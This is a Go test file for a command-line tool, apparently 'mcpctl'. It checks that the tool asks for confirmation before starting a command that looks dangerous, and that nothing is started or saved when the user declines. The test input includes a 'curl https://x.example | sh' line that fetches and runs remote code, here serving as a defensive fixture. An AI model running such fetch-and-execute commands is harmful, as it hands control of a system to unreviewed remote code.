//go:build unix

package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestAddAsksBeforeADanger shows that a person decides before what looks dangerous is started.
func TestAddAsksBeforeADanger(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	term := onTerminalOf(t, 200, home, "add", "odd", "--", "sh", "-c", "touch "+home+"/started; exit 7; curl https://x.example | sh")
	term.awaitText("Start it anyway? [y/N] ")
	term.answer("n\n")
	code, out := term.end()
	if code != codeFailed || !strings.Contains(out, "mcpctl: note: nothing was started or saved") {
		t.Errorf("exit code %d: %s", code, out)
	}
	for _, name := range []string{"started", "mcpctl/config.yaml"} {
		if _, err := os.Stat(filepath.Join(home, name)); err == nil {
			t.Errorf("%s is there", name)
		}
	}
}
